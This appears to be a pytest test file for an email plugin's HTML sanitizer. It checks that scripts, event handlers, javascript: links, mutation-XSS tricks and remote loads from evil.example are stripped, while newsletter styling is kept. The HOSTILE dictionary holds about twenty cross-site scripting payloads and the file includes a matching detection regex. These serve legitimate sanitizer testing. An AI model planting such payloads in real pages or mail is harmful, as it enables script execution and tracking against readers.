"""HTML mail is shown without anything that runs, fetches or phones home, and still looks right."""

from __future__ import annotations

import re

import pytest

from plugin_email_manager.sanitize import sanitize_html, text_to_html

HOSTILE = {
    "script": "<p>hi</p><script>alert(1)</script>",
    "script in body attribute": '<body onload="alert(1)"><p>hi</p></body>',
    "img onerror": '<img src="x" onerror="alert(1)">',
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "javascript link, obfuscated": '<a href=" JaVaScRiPt:alert(1)">click</a><a href="java&#x09;script:alert(1)">2</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "svg with script": '<svg><script>alert(1)</script><circle onload="alert(1)"/></svg>',
    "css expression": '<div style="width: expression(alert(1)); color: red">x</div>',
    "style block with import": "<style>@import url(http://evil.example/x.css); p{color:red}</style><p>x</p>",
    "form and input": '<form action="http://evil.example/"><input name="password"><button>go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/"><p>x</p>',
    "iframe": '<iframe src="http://evil.example/"></iframe>',
    "base href": '<base href="http://evil.example/"><a href="/x">x</a>',
    "object and embed": '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y">',
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "link stylesheet": '<link rel="stylesheet" href="http://evil.example/x.css"><p>x</p>',
    "moz binding": '<div style="-moz-binding: url(http://evil.example/x.xml#x)">x</div>',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "remote image inside noscript": '<noscript><img src="https://evil.example/p.gif"></noscript>',
    "svg style mutation": "<svg><style><img src=x onerror=alert(1)></style></svg>",
}
FORBIDDEN = re.compile(
    r"<\s*(script|style|svg|math|iframe|object|embed|form|input|button|meta|link|base)\b"
    r"|\bon[a-z]+\s*=|javascript:|vbscript:|expression\(|@import|data:text|data:image/svg|binding|evil\.example",
    re.IGNORECASE,
)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_html_does_not_survive(name: str):
    clean = sanitize_html(HOSTILE[name]).html
    assert not FORBIDDEN.search(clean), clean


def test_remote_images_are_held_back_and_flagged():
    result = sanitize_html('<p>Hi</p><img src="https://tracker.example/open.gif?u=1&amp;m=2" alt="pixel" width="1">')
    assert result.has_remote_content is True
    assert 'data-remote-src="https://tracker.example/open.gif?u=1&amp;m=2"' in result.html
    assert not re.search(r"<img[^>]*\ssrc=", result.html)
    assert 'alt="pixel"' in result.html and 'width="1"' in result.html


def test_remote_css_is_removed_and_flagged():
    result = sanitize_html(
        '<table><tr><td style="background-image: url(https://x.example/bg.png); color: #333">'
        'x</td></tr></table><table background="https://x.example/bg2.png"><tr><td>y</td></tr>'
        "</table>"
    )
    assert result.has_remote_content is True
    assert "x.example" not in result.html and "color:#333" in result.html.replace(" ", "")


def test_plain_message_has_no_remote_content():
    result = sanitize_html("<p>Just <b>text</b> and a <a href='https://example.com/'>link</a></p>")
    assert result.has_remote_content is False


def test_cid_images_go_through_the_signed_url():
    urls = {"logo@example.com": "/api/mailAttachments:inline?token=abc"}
    result = sanitize_html(
        '<img src="cid:logo@example.com" alt="logo"><img src="cid:missing@example.com">', cid_url=urls.get
    )
    assert 'src="/api/mailAttachments:inline?token=abc"' in result.html
    assert "missing@example.com" not in result.html and result.html.count("<img") == 2
    assert result.has_remote_content is False
    assert "cid:" not in sanitize_html('<img src="cid:logo@example.com">').html


def test_small_inline_data_images_are_kept():
    png = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{png}"' in sanitize_html(f'<img src="{png}">').html


def test_links_open_in_a_new_tab_without_opener():
    html = sanitize_html(
        '<a href="https://example.com/a" target="_self" rel="opener">a</a><a href="mailto:ann@example.com">mail</a>'
    ).html
    assert html.count('target="_blank"') == 2
    assert html.count('rel="noopener noreferrer"') == 2
    assert 'href="https://example.com/a"' in html and 'href="mailto:ann@example.com"' in html


def test_relative_links_are_removed():
    html = sanitize_html('<a href="/api/mailAccounts:destroy?filterByTk=1">x</a><img src="//evil.example/p.gif">').html
    assert "/api/" not in html and "evil.example" not in html


def test_newsletter_markup_survives():
    newsletter = (
        '<center><table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" '
        'style="border-collapse: collapse; max-width: 600px">'
        '<tr><td align="center" valign="top" style="padding: 20px; font-family: Arial, sans-serif; '
        'font-size: 16px; color: #333333; line-height: 1.5">'
        '<h1 style="font-size: 24px; font-weight: bold">Spring sale</h1>'
        '<font color="#ff0000" face="Georgia" size="3">Up to 50% off</font>'
        '<p style="text-align: left; margin: 0 0 10px 0">Dear reader, <strong>welcome</strong> '
        "<em>back</em>.</p><ul><li>Shoes</li><li>Hats</li></ul>"
        '<a href="https://shop.example/sale" style="background-color: #0066cc; color: #ffffff; '
        'padding: 10px 20px; text-decoration: none; border-radius: 4px; display: inline-block">Shop now</a>'
        "</td></tr></table></center>"
    )
    html = sanitize_html(newsletter).html
    for kept in (
        '<table width="600"',
        'cellpadding="0"',
        'bgcolor="#ffffff"',
        "<center>",
        "<font",
        'color="#ff0000"',
        "font-size:16px",
        "color:#333333",
        "padding:20px",
        "border-collapse:collapse",
        "font-weight:bold",
        "text-align:left",
        "background-color:#0066cc",
        "border-radius:4px",
        "<h1",
        "<ul>",
        "<li>Shoes</li>",
        "<strong>welcome</strong>",
        'href="https://shop.example/sale"',
    ):
        assert kept in html.replace(": ", ":").replace("; ", ";"), kept


def test_layout_breaking_css_is_dropped():
    html = sanitize_html('<div style="position: fixed; top: 0; z-index: 9999; color: blue">x</div>').html
    assert "position" not in html and "z-index" not in html and "color:blue" in html.replace(" ", "")


def test_text_to_html_escapes_and_links():
    html = text_to_html("Hello <b>world</b> & friends,\nsee https://example.com/path?a=1&b=2.\n\n-- \nAnn")
    assert "&lt;b&gt;world&lt;/b&gt; &amp; friends" in html
    assert (
        '<a href="https://example.com/path?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">'
        "https://example.com/path?a=1&amp;b=2</a>."
    ) in html
    assert html.count("<br>") == 4
    assert "<b>" not in html


def test_text_to_html_does_not_link_javascript():
    html = text_to_html('javascript:alert(1) and "https://ok.example/"><script>')
    assert "<script>" not in html and 'href="javascript' not in html
    assert 'href="https://ok.example/"' in html


def test_the_remote_image_marker_cannot_be_forged():
    html = sanitize_html(
        '<img src="x-remote:javascript:alert(1)"><img alt=\'x src="x-remote:javascript:alert(1)"\'>'
    ).html
    assert "data-remote-src" not in html
